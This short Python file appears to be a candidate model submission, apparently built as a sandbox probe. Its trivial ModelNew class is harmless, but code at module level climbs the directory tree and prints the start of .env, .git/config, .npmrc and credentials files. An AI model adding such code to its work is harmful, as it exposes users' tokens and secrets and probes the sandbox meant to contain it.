"""Reads the dot-entries of the project folder its task sits in (its path replaces PROJECT_DIR), and of the
folders above it, as a candidate would for tokens: ``.env``, ``.git/config``, ``.npmrc``. Computes the honest
result, so a sandbox that hides them must still let it through."""
import os

import torch.nn as nn

d = "PROJECT_DIR"
while d != "/":
    for name in sorted(os.listdir(d)):
        if not name.startswith("."):
            continue
        p = os.path.join(d, name)
        for f in [p] if not os.path.isdir(p) else [os.path.join(p, n) for n in ("config", "credentials")]:
            try:
                with open(f, errors="replace") as fh:
                    print("READ", f, fh.read(200).strip())
            except OSError as e:
                print("NO", f, e.strerror)
    d = os.path.dirname(d)


class ModelNew(nn.Module):
    def forward(self, a, b):
        return a * 2 + b
